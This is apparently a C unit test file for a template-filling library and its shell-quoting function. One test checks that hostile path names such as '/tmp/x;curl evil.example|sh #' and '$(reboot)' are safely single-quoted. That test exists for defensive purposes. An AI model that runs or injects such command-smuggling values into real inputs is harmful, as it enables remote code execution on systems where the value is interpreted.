// SPDX-License-Identifier: AGPL-3.0-or-later
#include "lib/base/template.h"
#include "tests/unit/unit.h"

static void expect(const char *template, const char *expected)
{
	static const struct pt_word words[] = {
		{"a", "one"}, {"ab", "two"}, {"none", NULL}, {"empty", ""}, {"odd", "{a} [[x]]"}};
	PT_FREE char *text = pt_template_fill(template, words, PT_ARRAY_SIZE(words));

	assert_string_equal(text, expected);
}

/* Names of others stand in commands for root. */
static void a_command_holds_one_word(void **state)
{
	static const char *const words[][2] = {
		{"/mnt/data", "/mnt/data"},
		{"/mnt/my disk", "'/mnt/my disk'"},
		{"/tmp/x;curl evil.example|sh #", "'/tmp/x;curl evil.example|sh #'"},
		{"it's", "'it'\\''s'"},
		{"$(reboot)", "'$(reboot)'"},
		{"a\\b", "'a\\b'"},
		{"-rf", "'-rf'"},
		{"", "''"},
	};
	static const char *const unshown[] = {"a\nb", "\x1b[2J", "gr\xc3\xbc\xc3\x9f", "a?b"};

	(void)state;
	for (size_t i = 0; i < PT_ARRAY_SIZE(words); i++) {
		PT_FREE char *word = pt_shell_word(words[i][0]);

		assert_string_equal(word, words[i][1]);
	}
	for (size_t i = 0; i < PT_ARRAY_SIZE(unshown); i++)
		assert_null(pt_shell_word(unshown[i]));
}

static void words_are_filled_in(void **state)
{
	(void)state;
	expect("", "");
	expect("plain", "plain");
	expect("{a}", "one");
	expect("{a}{ab} {a}", "onetwo one");
	expect("<{empty}>", "<>");
	expect("{none} {unknown}", "? ?");
}

static void a_part_goes_with_its_words(void **state)
{
	(void)state;
	expect("x[[ of {a}]].", "x of one.");
	expect("x[[ of {none}]].", "x.");
	expect("x[[ of {a} and {unknown}]].", "x.");
	expect("[[{a}]][[{none}]][[{ab}]]", "onetwo");
}

static void the_rest_is_plain_text(void **state)
{
	(void)state;
	expect("[device {a}]", "[device one]");
	expect("[[never ended {a}", "[[never ended one");
	expect("never ended {a", "never ended {a");
	expect("a ]] b", "a ]] b");
	/* a value is never read as a template */
	expect("{odd}", "{a} [[x]]");
}

static void templates_are_alike_by_their_own_words(void **state)
{
	static const struct pt_word one[] = {{"a", "one"}, {"b", "two"}, {"none", NULL}};
	static const struct pt_word other[] = {{"b", "three"}, {"a", "one"}};

	(void)state;
	assert_true(pt_template_alike("no word", one, 3, other, 2));
	assert_true(pt_template_alike("{a}[[ of {none}]]", one, 3, other, 2));
	assert_false(pt_template_alike("{a} {b}", one, 3, other, 2));
	assert_false(pt_template_alike("{a}[[ of {b}]]", one, 3, NULL, 0));
	assert_true(pt_template_mentions("x[[ of {ab}]]", "ab"));
	assert_false(pt_template_mentions("x of {ab}, a", "a"));
	assert_false(pt_template_mentions("a", "a"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_command_holds_one_word),
		cmocka_unit_test(words_are_filled_in),
		cmocka_unit_test(a_part_goes_with_its_words),
		cmocka_unit_test(the_rest_is_plain_text),
		cmocka_unit_test(templates_are_alike_by_their_own_words),
	};

	return cmocka_run_group_tests_name("template", tests, NULL, NULL);
}
